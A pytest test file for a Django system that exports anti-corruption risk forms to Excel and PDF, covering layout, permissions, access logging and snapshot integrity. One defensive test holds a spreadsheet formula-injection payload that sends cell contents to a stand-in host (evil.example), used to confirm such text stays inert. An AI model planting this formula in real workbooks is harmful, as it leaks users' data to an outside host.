"""附表1 / 附表2 exports: the data (appendix_data), the workbook, the PDF, the download view and the command."""

import datetime as dt
import hashlib
import io
import json
import shutil
import subprocess
from urllib.parse import quote

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from lianzheng.models import AccessLog, AuditEvent
from measures.models import Measure
from risks.appendix import appendix_data, rows_of
from risks.exports import appendix_pdf, appendix_xlsx, snapshot_pdf_sha256
from risks.models import FormSnapshot, PowerItem, RiskForm, RiskPoint, SpecialMeeting
from tests.factories import AssignmentFactory, CampaignFactory, OfficeFactory, PostFactory, UserFactory
from units.models import Post

pytestmark = pytest.mark.django_db

needs_poppler = pytest.mark.skipif(not shutil.which("pdffonts"), reason="poppler-utils (make install)")


# --- test data ---------------------------------------------------------------------------------------------
def add_point(campaign, unit, *, scope="post", office=None, posts=(), name="审批把关不严", measures=1, **extra):
    point = RiskPoint.objects.create(
        campaign=campaign,
        unit=unit,
        office=office,
        scope=scope,
        name=name,
        manifestation=extra.pop("manifestation", f"{name}的表现形式：违规办理、优亲厚友"),
        category=extra.pop("category", "duty"),
        level=extra.pop("level", 2),
        responsible_leader=extra.pop("responsible_leader", "王处长"),
        responsible_person=extra.pop("responsible_person", "李科长"),
        supervisor=extra.pop("supervisor", "纪委监察室"),
        **extra,
    )
    if posts:
        point.posts.set(posts)
    for stage in ("pre", "mid", "post"):
        for i in range(measures):
            Measure.objects.create(risk_point=point, stage=stage, content=f"{name}{stage}措施{i + 1}", sort_order=i)
    return point


def build_forms(unit, *, post=None, points_per_post=1, year=2010):
    """A campaign with a unit-level, an office-level and post-level points (one shared by two posts)."""
    campaign = CampaignFactory(name="第一批试点", year=year)
    campaign.units.add(unit)
    office = post.office if post is not None else OfficeFactory(unit=unit, name="会计核算科")
    post = post or PostFactory(unit=unit, office=office, name="出纳", is_key=True)
    second = Post.objects.filter(unit=unit, office=office, name="会计").first()
    second = second or PostFactory(unit=unit, office=office, name="会计", sort_order=200)
    power, _created = PowerItem.objects.get_or_create(unit=unit, name="资金支付审批")
    add_point(campaign, unit, scope="unit", name="重大事项集体决策不落实", level=1, category="system")
    add_point(campaign, unit, scope="office", office=office, name="科室内部监督缺失", category="process")
    for i in range(points_per_post):
        add_point(
            campaign, unit, scope="post", office=office, posts=[post], name=f"现金管理违规{i + 1}", power_item=power
        )
    add_point(
        campaign, unit, scope="post", office=office, posts=[post, second], name="票据审核不严", business_step="报销审核"
    )
    unit_form = RiskForm.objects.create(kind="unit", campaign=campaign, unit=unit)
    personal_form = RiskForm.objects.create(kind="personal", campaign=campaign, unit=unit, post=post)
    return campaign, unit_form, personal_form


def approve(form, *, by, content=None):
    """What the approve service does at the end: freeze the content and the PDF's hash."""
    form.state = "approved"
    form.approved_at = timezone.now()
    form.approved_by = by
    form.save()
    data = content if content is not None else appendix_data(form)
    return FormSnapshot.objects.create(
        form=form,
        revision=form.revision,
        approved_at=form.approved_at,
        approved_by=by,
        content=data,
        pdf_sha256=snapshot_pdf_sha256(data),
    )


def pdf_text(pdf: bytes, tmp_path) -> str:
    path = tmp_path / "f.pdf"
    path.write_bytes(pdf)
    out = subprocess.run(["pdftotext", "-raw", str(path), "-"], capture_output=True, text=True, check=True).stdout
    return "".join(out.split())


def pdf_fonts(pdf: bytes, tmp_path) -> str:
    path = tmp_path / "fonts.pdf"
    path.write_bytes(pdf)
    return subprocess.run(["pdffonts", str(path)], capture_output=True, text=True, check=True).stdout


@pytest.fixture
def forms(unit, post, staff):
    return build_forms(unit, post=post)


# --- the data ----------------------------------------------------------------------------------------------
def test_r1_unit_form_rows_grouped_unit_then_office_then_post(forms):
    _campaign, unit_form, _personal = forms
    data = appendix_data(unit_form)
    assert [g["label"] for g in data["groups"]] == ["一、单位层面", "二、科室层面", "三、岗位层面"]
    rows = rows_of(data)
    assert [r["no"] for r in rows] == [1, 2, 3, 4]
    assert rows[0]["posts"] == "" and rows[0]["office"] == ""
    assert rows[1]["office"] == "会计核算科" and rows[1]["posts"] == ""
    assert rows[2]["matter"] == "资金支付审批"
    assert rows[3]["posts"] == "出纳、会计" and rows[3]["matter"] == "报销审核"
    assert rows[0]["category"] == "制度机制风险" and rows[0]["level"] == "一级"
    assert rows[2]["measures"]["mid"] == ["现金管理违规1mid措施1"]


def test_r3_personal_form_lists_the_posts_points_and_the_holders_own_measures(forms, staff):
    _campaign, unit_form, personal = forms
    shared = RiskPoint.objects.get(name="票据审核不严")
    Measure.objects.create(risk_point=shared, stage="pre", content="本人每月自查票据", personal_form=personal)
    data = appendix_data(personal)
    rows = rows_of(data)
    assert [r["name"] for r in rows] == ["现金管理违规1", "票据审核不严"]
    assert rows[1]["measures"]["pre"] == ["票据审核不严pre措施1", "本人每月自查票据"]
    assert rows[1]["remark"] == "与会计共有"
    assert data["header"]["holder"] == "张某" and data["header"]["is_key"] == "是"
    assert data["filename"] == "附表2_财务处_出纳_张某_2010"
    # the unit form never shows a holder's own measures
    unit_rows = rows_of(appendix_data(unit_form))
    assert "本人每月自查票据" not in unit_rows[3]["measures"]["pre"]


def test_appendix_data_is_json_safe(forms):
    _campaign, unit_form, personal = forms
    for form in (unit_form, personal):
        data = appendix_data(form)
        assert json.loads(json.dumps(data)) == data


def test_appendix_data_issues_a_bounded_number_of_queries(unit, post, staff, django_assert_num_queries):
    _c, small, _p = build_forms(unit, post=post, points_per_post=1, year=2010)
    _c2, large, _p2 = build_forms(unit, post=post, points_per_post=25, year=2011)
    # form, points, their posts, their measures, the 实施细则 publicity
    with django_assert_num_queries(5):
        appendix_data(small)
    with django_assert_num_queries(5):
        data = appendix_data(large)
    assert data["point_count"] == 28
    # a personal form adds the holder and the pledge text
    with django_assert_num_queries(6):
        appendix_data(_p)
    with django_assert_num_queries(6):
        appendix_data(_p2)


# --- Excel -------------------------------------------------------------------------------------------------
def test_unit_form_workbook_follows_the_appendix_layout(forms):
    _campaign, unit_form, _personal = forms
    unit_form.filled_by = UserFactory(username="filler", full_name="填表员", phone="0791-1234567", unit=unit_form.unit)
    unit_form.submitted_at = timezone.make_aware(dt.datetime(2010, 6, 5, 10))
    unit_form.save()
    data = appendix_data(unit_form)
    wb = load_workbook(io.BytesIO(appendix_xlsx(data)))
    ws = wb.active
    assert ws.title == "财务处"
    assert ws["A1"].value == "附表1"
    assert ws["A2"].value == "财务处部门廉政风险识别防控表"
    assert ws["A3"].value == "（2010年度 第一批试点）"
    assert ws["A2"].font.b and ws["A2"].font.sz == 18
    assert ws["A4"].value == "单位名称(盖章)：财务处"
    assert ws["E4"].value == "填表人：填表员"
    assert ws["I4"].value == "联系电话：0791-1234567"
    assert ws["K4"].value == "填表日期：2010年6月5日"
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"A2:N2", "A3:N3", "I6:K6", "A6:A7", "F6:F7", "N6:N7"} <= merged
    assert [ws.cell(row=6, column=c).value for c in range(1, 10)] == [
        "序号", "科室", "岗位", "职权(业务)事项", "风险点", "风险表现形式", "风险类别", "风险等级", "防控措施",
    ]  # fmt: skip
    assert [ws.cell(row=7, column=c).value for c in (9, 10, 11)] == ["前期预防", "中期监控", "后期处置"]
    assert [ws.cell(row=6, column=c).value for c in (12, 13, 14)] == ["责任领导", "责任人", "监督部门"]
    # group row, then the data rows; cell values equal the data
    assert ws["A8"].value == "一、单位层面" and "A8:N8" in merged
    rows = rows_of(data)
    assert ws["A9"].value == 1 and ws["E9"].value == rows[0]["name"] and ws["F9"].value == rows[0]["manifestation"]
    assert ws["B9"].value is None and ws["C9"].value is None  # unit-level: office and post blank, never "None"
    assert ws["G9"].value == "制度机制风险" and ws["H9"].value == "一级"
    assert ws["I9"].value == "1. 重大事项集体决策不落实pre措施1"
    assert ws["L9"].value == "王处长" and ws["M9"].value == "李科长" and ws["N9"].value == "纪委监察室"
    shared_row = next(r for r in ws.iter_rows(min_row=9) if r[4].value == "票据审核不严")
    assert shared_row[2].value == "出纳、会计" and shared_row[3].value == "报销审核"
    assert ws["A9"].border.left.style == "thin" and ws["F9"].alignment.wrap_text
    # print set-up
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9  # A4
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert ws.print_title_rows == "$6:$7"
    assert ws.freeze_panes == "A8"
    assert ws.oddFooter.center.text == "第 &P 页 / 共 &N 页"
    assert ws.column_dimensions["F"].width > ws.column_dimensions["A"].width
    # footer block with signature lines
    texts = [c.value for c in ws["A"] if isinstance(c.value, str)]
    assert any(t.startswith("专题会议评估：会议日期") for t in texts)
    assert any(t.startswith("主要负责人（签字）：") and "（单位盖章）" in t for t in texts)
    assert any(t.startswith("纪委监察室受理日期：") for t in texts)
    values = [c.value for row in ws.iter_rows() for c in row]
    assert "None" not in values and "-" not in values


def test_r7_measures_are_numbered_one_per_line(unit, post, staff):
    campaign, unit_form, _personal = build_forms(unit, post=post)
    point = RiskPoint.objects.get(name="现金管理违规1")
    Measure.objects.create(risk_point=point, stage="post", content="追责问责", sort_order=5)
    ws = load_workbook(io.BytesIO(appendix_xlsx(appendix_data(unit_form)))).active
    row = next(r for r in ws.iter_rows(min_row=9) if r[4].value == "现金管理违规1")
    assert row[10].value == "1. 现金管理违规1post措施1\n2. 追责问责"
    assert row[10].alignment.wrap_text


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_text_that_looks_like_a_formula_stays_text_in_every_workbook(unit, post, staff):
    """Issue 14 (7): a risk point named like a formula is a string cell, not a live formula, in the 附表1 workbook
    and the 风险点汇总表, as LibreOffice reads them back (no formula anywhere in the files)."""
    import zipfile

    from risks.appendix import register_data
    from risks.exports import register_xlsx

    campaign, unit_form, _personal = build_forms(unit, post=post)
    RiskPoint.objects.filter(name="现金管理违规1").update(name=EVIL, manifestation="+1 -2 @SUM(A1)")
    books = {
        "appendix": appendix_xlsx(appendix_data(unit_form)),
        "register": register_xlsx(register_data(campaign)["rows"], title="风险点汇总表"),
    }
    for name, content in books.items():
        cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
        evil = [c for c in cells if c.value == EVIL]
        assert evil and all(c.data_type == "s" for c in evil), name
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets), name


def test_personal_form_workbook_has_the_grid_and_the_pledge(forms, staff):
    _campaign, _unit_form, personal = forms
    staff.title = "科员"
    staff.save()
    data = appendix_data(personal)
    ws = load_workbook(io.BytesIO(appendix_xlsx(data))).active
    assert ws.title == "出纳"
    assert ws["A1"].value == "附表2" and ws["A2"].value == "个人廉政风险识别防控表" and ws["A3"].value == "（2010年度）"
    assert [ws["A4"].value, ws["C4"].value, ws["F4"].value, ws["H4"].value] == ["单位", "财务处", "科室", "会计核算科"]
    assert [ws["A5"].value, ws["C5"].value, ws["F5"].value, ws["H5"].value] == ["姓名", "张某", "职务(职级)", "科员"]
    assert [ws["A6"].value, ws["C6"].value, ws["F6"].value, ws["H6"].value] == [
        "岗位名称",
        "出纳",
        "是否重点岗位",
        "是",
    ]
    assert ws["A7"].value == "主要岗位职责" and ws["C7"].value == "负责本岗位的业务工作。"
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"C7:J7", "F9:H9", "A9:A10", "I9:I10", "J9:J10"} <= merged
    assert [ws.cell(row=9, column=c).value for c in range(1, 7)] == [
        "序号", "职权(岗位职责)事项", "风险点及表现形式", "风险类别", "风险等级", "防控措施",
    ]  # fmt: skip
    assert [ws.cell(row=10, column=c).value for c in (6, 7, 8)] == ["前期预防", "中期监控", "后期处置"]
    assert ws["A11"].value == 1 and ws["C11"].value.startswith("现金管理违规1：")
    assert ws["I11"].value == "王处长"
    assert ws.print_title_rows == "$9:$10" and ws.freeze_panes == "A11"
    texts = [c.value for c in ws["A"] if isinstance(c.value, str)]
    assert any(t.startswith("个人廉政承诺：本人郑重承诺") for t in texts)
    assert any(t.startswith("科室负责人意见：") for t in texts)
    assert any(t.startswith("单位领导审核意见：") for t in texts)


def test_sheet_name_is_cut_to_31_characters(unit, post, staff):
    unit.name = "后勤集团物业管理中心学生公寓管理服务部暨校园综合服务保障中心及附属单位"
    unit.save()
    _c, unit_form, _p = build_forms(unit, post=post)
    data = appendix_data(unit_form)
    assert len(data["sheet_name"]) == 31
    assert load_workbook(io.BytesIO(appendix_xlsx(data))).active.title == unit.name[:31]


# --- PDF ---------------------------------------------------------------------------------------------------
@needs_poppler
def test_unit_form_pdf_embeds_the_cjk_font_and_reads_back(forms, tmp_path):
    _campaign, unit_form, _personal = forms
    pdf = appendix_pdf(appendix_data(unit_form))
    assert pdf.startswith(b"%PDF")
    fonts = pdf_fonts(pdf, tmp_path)
    cjk = [line for line in fonts.splitlines() if "NotoSansCJKsc" in line.replace("-", "") or "Noto" in line]
    assert cjk, fonts
    assert all(line.split()[-5:-3] == ["yes", "yes"] for line in cjk), fonts  # embedded, subset
    text = pdf_text(pdf, tmp_path)
    assert "财务处部门廉政风险识别防控表" in text
    assert "单位名称(盖章)：财务处" in text
    assert "重大事项集体决策不落实" in text and "票据审核不严" in text
    assert "前期预防" in text and "第1页共1页" in text


@needs_poppler
def test_personal_form_pdf_reads_back(forms, tmp_path):
    _campaign, _unit_form, personal = forms
    text = pdf_text(appendix_pdf(appendix_data(personal)), tmp_path)
    assert "个人廉政风险识别防控表" in text and "财务处" in text and "现金管理违规1" in text
    assert "个人廉政承诺" in text and "主要岗位职责" in text


@needs_poppler
def test_long_form_repeats_the_header_on_every_page(unit, post, staff, tmp_path):
    _c, unit_form, _p = build_forms(unit, post=post, points_per_post=40)
    pdf = appendix_pdf(appendix_data(unit_form))
    path = tmp_path / "long.pdf"
    path.write_bytes(pdf)
    pages = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout.split("\f")
    pages = ["".join(p.split()) for p in pages if p.strip()]
    assert len(pages) >= 3
    for number, page in enumerate(pages, 1):
        assert "风险表现形式" in page and "防控措施" in page
        assert f"第{number}页共{len(pages)}页" in page


def test_same_data_gives_the_same_pdf_bytes(forms):
    _campaign, unit_form, _personal = forms
    data = appendix_data(unit_form)
    first = appendix_pdf(data)
    frozen = json.loads(json.dumps(data))
    assert appendix_pdf(frozen) == first
    assert snapshot_pdf_sha256(frozen) == hashlib.sha256(first).hexdigest()


# --- the download view -------------------------------------------------------------------------------------
def export_url(form, fmt):
    return reverse("risks:form-export", args=[form.pk, fmt])


@pytest.mark.parametrize(
    ("who", "allowed"),
    [
        ("admin_user", True),
        ("reviewer", True),
        ("school_leader", True),
        ("unit_leader", True),
        ("unit_contact", True),
        ("staff", False),  # a post holder reads the personal form of the post, not the unit form
        ("other_staff", False),
    ],
)
def test_unit_form_download_needs_read_permission(request, forms, as_user, who, allowed):
    _campaign, unit_form, _personal = forms
    user = request.getfixturevalue(who)
    before = AuditEvent.objects.count()
    response = as_user(user).get(export_url(unit_form, "xlsx"))
    assert response.status_code == (200 if allowed else 404)
    # a read: the access log grows, the audit chain does not
    assert AuditEvent.objects.count() == before
    assert AccessLog.objects.filter(user=user).count() == (1 if allowed else 0)


def test_personal_form_download_by_holder_and_not_by_another_units_staff(forms, as_user, staff, other_staff):
    _campaign, _unit_form, personal = forms
    response = as_user(staff).get(export_url(personal, "pdf"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    name = "附表2_财务处_出纳_张某_2010.pdf"
    assert f"filename*=UTF-8''{quote(name)}" in response["Content-Disposition"]
    assert as_user(other_staff).get(export_url(personal, "pdf")).status_code == 404


def test_download_sends_the_chinese_file_name_rfc5987_and_is_logged_as_access_not_audit(forms, as_user, unit_contact):
    _campaign, unit_form, _personal = forms
    response = as_user(unit_contact).get(export_url(unit_form, "xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''%E9%99%84%E8%A1%A81_%E8%B4%A2%E5%8A%A1%E5%A4%84_2010.xlsx" in disposition
    assert 'filename="' in disposition and "附表" not in disposition.split("filename*")[0]
    assert not AuditEvent.objects.filter(action="form.export").exists()
    entry = AccessLog.objects.get()
    assert (entry.action, entry.user, entry.format, entry.unit_code) == ("download", unit_contact, "xlsx", "caiwu")
    assert entry.object_type == "risks.RiskForm" and entry.object_id == str(unit_form.pk)
    assert entry.client_address == "127.0.0.1"
    assert load_workbook(io.BytesIO(response.content)).active["A2"].value == "财务处部门廉政风险识别防控表"


def test_unknown_format_is_404(forms, as_user, reviewer):
    _campaign, unit_form, _personal = forms
    assert as_user(reviewer).get(f"/risks/forms/{unit_form.pk}/export/doc/").status_code == 404


def test_approved_form_serves_the_frozen_snapshot_byte_for_byte(forms, as_user, reviewer, settings, tmp_path):
    settings.DATA_DIR = tmp_path
    _campaign, unit_form, _personal = forms
    snapshot = approve(unit_form, by=reviewer)
    first = as_user(reviewer).get(export_url(unit_form, "pdf")).content
    # a later change of the live data does not change the approved PDF
    RiskPoint.objects.filter(name="票据审核不严").update(name="已改名的风险点")
    second = as_user(reviewer).get(export_url(unit_form, "pdf")).content
    assert first == second
    assert hashlib.sha256(second).hexdigest() == snapshot.pdf_sha256
    ws = load_workbook(io.BytesIO(as_user(reviewer).get(export_url(unit_form, "xlsx")).content)).active
    assert "票据审核不严" in [c.value for c in ws["E"]]


def test_approved_pdf_is_served_from_the_verified_cache(forms, as_user, reviewer, settings, tmp_path, monkeypatch):
    settings.DATA_DIR = tmp_path
    _campaign, unit_form, _personal = forms
    snapshot = approve(unit_form, by=reviewer)
    first = as_user(reviewer).get(export_url(unit_form, "pdf")).content
    cached = tmp_path / "pdf-cache" / f"{snapshot.pdf_sha256}.pdf"
    assert cached.read_bytes() == first
    monkeypatch.setattr("risks.export_tasks.appendix_pdf", lambda data: pytest.fail("rendered again"))
    assert as_user(reviewer).get(export_url(unit_form, "pdf")).content == first
    # a damaged cache file is never served: the PDF is rendered again from the snapshot
    cached.write_bytes(b"%PDF-damaged")
    monkeypatch.undo()
    assert as_user(reviewer).get(export_url(unit_form, "pdf")).content == first


def test_approved_form_with_a_tampered_snapshot_is_refused(forms, as_user, reviewer, settings, tmp_path):
    settings.DATA_DIR = tmp_path
    _campaign, unit_form, _personal = forms
    snapshot = approve(unit_form, by=reviewer)
    content = snapshot.content
    content["title"] = "被篡改的标题"
    FormSnapshot.objects.filter(pk=snapshot.pk).update(content=content)
    response = as_user(reviewer).get(export_url(unit_form, "pdf"))
    assert response.status_code == 409
    assert AccessLog.objects.filter(action="refused", object_id=str(unit_form.pk), format="pdf").exists()


# --- the command -------------------------------------------------------------------------------------------
def test_export_appendix_command_writes_both_formats(forms, tmp_path):
    _campaign, unit_form, personal = forms
    xlsx = tmp_path / "a1.xlsx"
    call_command("export_appendix", "1", "--form", str(unit_form.pk), "--format", "xlsx", "--output", str(xlsx))
    assert load_workbook(xlsx).active["A2"].value == "财务处部门廉政风险识别防控表"
    pdf = tmp_path / "a2.pdf"
    call_command("export_appendix", "2", "--form", str(personal.pk), "--format", "pdf", "--output", str(pdf))
    assert pdf.read_bytes().startswith(b"%PDF")
    # reads by command are logged as access, with no person
    logged = AccessLog.objects.filter(user=None, detail__via="command").values_list("object_id", "format")
    assert sorted(logged) == sorted([(str(unit_form.pk), "xlsx"), (str(personal.pk), "pdf")])


def test_export_appendix_command_refuses_a_mismatched_appendix_number(forms, tmp_path):
    from django.core.management.base import CommandError

    _campaign, unit_form, _personal = forms
    with pytest.raises(CommandError, match="附表1"):
        call_command(
            "export_appendix", "2", "--form", str(unit_form.pk), "--format", "pdf", "--output", str(tmp_path / "x")
        )
    with pytest.raises(CommandError):
        call_command("export_appendix", "1", "--form", "99999", "--format", "pdf", "--output", str(tmp_path / "x"))


def test_meeting_and_confirmation_appear_in_the_footer(forms, unit_leader):
    _campaign, unit_form, _personal = forms
    unit_form.meeting = SpecialMeeting.objects.create(
        campaign=unit_form.campaign,
        unit=unit_form.unit,
        date=dt.date(2010, 6, 3),
        attendees="王处长、李科长",
        minutes="评估风险点",
        recorded_by=unit_leader,
    )
    unit_form.confirmation_text = "同意上报"
    unit_form.confirmed_by = unit_leader
    unit_form.confirmed_at = timezone.make_aware(dt.datetime(2010, 6, 4, 9))
    unit_form.save()
    footer = appendix_data(unit_form)["footer"]
    assert footer["meeting_date"] == "2010年6月3日" and footer["meeting_attendees"] == "王处长、李科长"
    assert footer["confirmation"] == "同意上报" and footer["confirmed_by"] == "财务处长"
    ws = load_workbook(io.BytesIO(appendix_xlsx(appendix_data(unit_form)))).active
    texts = [c.value for c in ws["A"] if isinstance(c.value, str)]
    assert "专题会议评估：会议日期 2010年6月3日　　参会人员 王处长、李科长" in texts
    assert "单位领导班子确认意见：同意上报" in texts


def test_holder_sees_assignment_in_data(unit, post):
    holder = UserFactory(username="holder2", full_name="赵某", unit=unit)
    AssignmentFactory(post=post, user=holder)
    _c, _u, personal = build_forms(unit, post=post)
    assert appendix_data(personal)["header"]["holder"] == "赵某"
